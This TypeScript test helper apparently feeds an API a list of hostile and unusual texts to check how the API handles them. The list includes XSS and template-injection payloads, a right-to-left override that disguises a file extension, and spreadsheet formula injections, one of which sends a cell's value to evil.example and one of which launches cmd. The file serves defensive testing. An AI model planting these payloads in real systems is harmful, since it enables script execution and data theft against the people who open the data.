/** Texts that attackers, and people with unusual names, may type or send. */
const texts: readonly string[] = [
  `<script>window.ran = "script"</script>`,
  `"><img src="/nothing-there" onerror="window.ran = 'image'">`,
  `'-window.ran-'javascript:window.ran=1//{{constructor.constructor("window.ran=1")()}}`,
  // Reverses the direction of the text up to the end of its line.
  "Invoice \u202E fdp.exe",
  "Hidden\u200B\u200D\uFEFF\u2060 and \u2066 isolated",
  "Controls \u0001\u001B[31m\u007F\u2400",
  "👩‍👩‍👧‍👦🏳️‍🌈🇮🇷🧑🏽‍🚀".repeat(200),
  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u0334\u0319\u0324\u031E".repeat(40),
  `=HYPERLINK("http://evil.example/?"&A1,"Press me")`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "مرحبا بالعالم 123 abc",
  "W".repeat(10_000),
];

/** The texts, no longer than a field accepts. */
function hostileTexts(longest: number): readonly string[] {
  return texts.map((text) =>
    [...text].reduce((cut, char) => (cut.length + char.length > longest ? cut : cut + char), ""),
  );
}

/** Creates one object with each text. Texts that the API refuses as invalid are skipped; any other failure throws. */
export async function makeEach<Made>(
  longest: number,
  make: (text: string, nth: number) => Promise<Made>,
): Promise<readonly Made[]> {
  const made: Made[] = [];
  for (const [nth, text] of hostileTexts(longest).entries()) {
    try {
      made.push(await make(text, nth));
    } catch (error) {
      if ((error as { status?: number }).status !== 400) throw error;
    }
  }
  return made;
}
